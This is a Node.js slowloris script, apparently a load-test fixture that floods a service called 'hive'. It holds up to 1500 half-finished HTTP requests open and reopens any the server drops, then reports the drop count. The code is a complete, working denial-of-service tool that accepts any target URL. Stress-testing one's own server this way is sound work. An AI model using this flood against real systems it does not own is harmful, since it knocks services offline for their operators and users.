// A slowloris flood for scenario 5s: N connections that each send part of a request head and
// then one header byte a second, never finishing it; a connection the hive drops is reopened,
// so the flood keeps its strength. Runs until killed; prints how many the hive dropped.
//
//   node slowloris.mjs <hive_url> [connections=1500]
import net from "node:net";

const [hiveUrl, countArg = "1500"] = process.argv.slice(2);
const hive = new URL(hiveUrl);
let dropped = 0;

function open() {
  const socket = net.connect(Number(hive.port), hive.hostname);
  socket.setNoDelay(true);
  socket.on("connect", () => socket.write("GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "));
  const drip = setInterval(() => socket.write("a"), 1000);
  socket.on("data", () => {});
  socket.on("error", () => {});
  socket.on("close", () => {
    clearInterval(drip);
    dropped += 1;
    setTimeout(open, 50);
  });
}

for (let i = 0; i < Number(countArg); i++) open();
process.on("SIGTERM", () => {
  console.log(JSON.stringify({ slow_clients: Number(countArg), slow_dropped_by_hive: dropped }));
  process.exit(0);
});
